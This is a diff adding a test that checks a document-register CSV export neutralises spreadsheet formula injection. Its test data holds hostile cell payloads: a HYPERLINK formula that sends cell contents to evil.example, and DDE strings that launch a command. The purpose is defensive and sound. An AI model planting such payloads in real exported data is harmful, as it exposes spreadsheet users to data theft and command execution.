@@ -199,6 +199,45 @@ def test_export_csv_for_excel(admin_cli, seeded: None, tmp_path: Path) -> None:
     assert len(list(csv.reader(io.StringIO(everything.decode("utf-8-sig"))))) == 4
 
 
+def test_export_csv_neutralises_formulas(
+    admin_cli, db_sessions: sessionmaker[Session], tmp_path: Path
+) -> None:
+    """Subjects come from outside senders: a cell a spreadsheet would evaluate is text."""
+    hostile = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")": "=",
+        "+cmd|' /C calc'!A0": "+",
+        "-2+3+cmd|' /C calc'!A0": "-",
+        "@SUM(1+1)*cmd|' /C calc'!A0": "@",
+        "\t=1+1": "\t",
+        "\r=1+1": "\r",
+    }
+    with db_sessions.begin() as session:
+        register = ensure_register(session, REGISTER, "Sổ đăng ký văn bản đến")
+        for i, subject in enumerate(hostile):
+            register_document(
+                session,
+                register,
+                document(
+                    number_notation=f"={i}+1",
+                    doc_type="",
+                    abstract="",
+                    subject=subject,
+                    agency_name="@Evil",
+                ),
+            )
+    target = tmp_path / "so-den.csv"
+    admin_cli("register", "export", "--format", "csv", "--output", str(target))
+    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
+    body = rows[1:]
+    assert len(body) == len(hostile)
+    titles = {row[5] for row in body}
+    assert titles == {"'" + subject.strip() for subject in hostile}
+    for row in body:
+        assert row[2] == "'@Evil" and row[3].startswith("'=")
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_export_html_is_printable_and_self_contained(
     admin_cli, seeded: None, tmp_path: Path
 ) -> None:
